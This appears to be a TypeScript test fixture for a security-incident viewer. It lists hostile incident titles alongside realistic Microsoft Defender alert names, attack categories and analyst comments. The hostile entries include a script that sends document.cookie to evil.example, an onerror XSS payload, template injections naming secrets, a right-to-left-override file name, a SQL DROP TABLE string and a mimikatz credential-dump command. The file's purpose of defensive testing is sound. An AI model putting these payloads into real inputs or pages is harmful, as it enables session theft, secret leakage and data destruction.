// Attacker-influenced text that real incident titles and descriptions can carry. The scenario
// mixes these in so consumers prove they never treat incident text as markup, links or templates.

export const HOSTILE_TITLES: readonly string[] = [
  'Suspicious sign-in, see [click here](https://evil.example/login) to verify',
  '<at>Security Operations</at> please approve the mailbox forwarding rule',
  '<img src=x onerror="alert(document.cookie)"> Malware detected on host',
  '<script>fetch("https://evil.example/x?c="+document.cookie)</script> beacon',
  'Ransom note ${process.env.BOT_PASSWORD} dropped on file share',
  'Phishing lure {{user.password}} delivered to 14 mailboxes',
  'Template ${if(true, "pwned", "x")} in document macro',
  'Invoice_2025\u202Efdp.exe opened from email attachment',
  'Multi-line\ntitle with **bold** and\r\n# heading injection',
  '\u200B\u200BZero-width \u200Dcharacters hide the host name',
  'Credential dump via `mimikatz` && "sekurlsa::logonpasswords"',
  `Anomalous token replay ${'A'.repeat(3000)}`,
  'Emoji flood 🔥🔥🔥 and mixed scripts: Ρaypal / Раураl impersonation',
  "SQL-ish '; DROP TABLE incidents; -- in user agent",
];

export const REALISTIC_TITLES: Record<string, readonly string[]> = {
  microsoftDefenderForEndpoint: ['Suspicious PowerShell command line', 'Suspicious execution of hidden file', 'Possible ransomware activity', 'Credential dumping tool detected'],
  microsoftDefenderForIdentity: ['Suspected DCSync attack (replication of directory services)', 'Suspected Kerberos SPN exposure', 'Suspected brute-force attack (LDAP)'],
  microsoftDefenderForOffice365: ['Email messages containing malicious URL removed after delivery', 'User clicked a potentially malicious URL', 'Suspicious inbox manipulation rule'],
  microsoftCloudAppSecurity: ['Impossible travel activity', 'Mass download by a single user', 'Suspicious OAuth app file download activities'],
  microsoftDefenderForCloud: ['Suspicious process executed on a virtual machine', 'Access from a suspicious IP to a storage account', 'Anomalous Key Vault operation'],
  dataLossPrevention: ['DLP policy match: credit card numbers shared externally', 'DLP policy match: sensitive file uploaded to personal cloud'],
  azureAdIdentityProtection: ['Unfamiliar sign-in properties', 'Anonymous IP address', 'Leaked credentials'],
  microsoftInsiderRiskManagement: ['Data exfiltration by departing user', 'Risky browser usage indicators'],
};

export const CATEGORIES: readonly string[] = [
  'InitialAccess', 'Execution', 'Persistence', 'PrivilegeEscalation', 'DefenseEvasion', 'CredentialAccess',
  'Discovery', 'LateralMovement', 'Collection', 'Exfiltration', 'CommandAndControl', 'Impact',
];

export const ANALYST_COMMENTS: readonly string[] = [
  'Isolated the device, collecting an investigation package.',
  'User confirmed they did not sign in from this location. Resetting credentials.',
  'Looks like the red team exercise; checking with the engagement lead.',
  'Escalating to tier 2 — see [runbook](https://evil.example/runbook) <at>oncall</at>',
  'Blocked the sender domain at the gateway. ${secret} {{token}}',
];
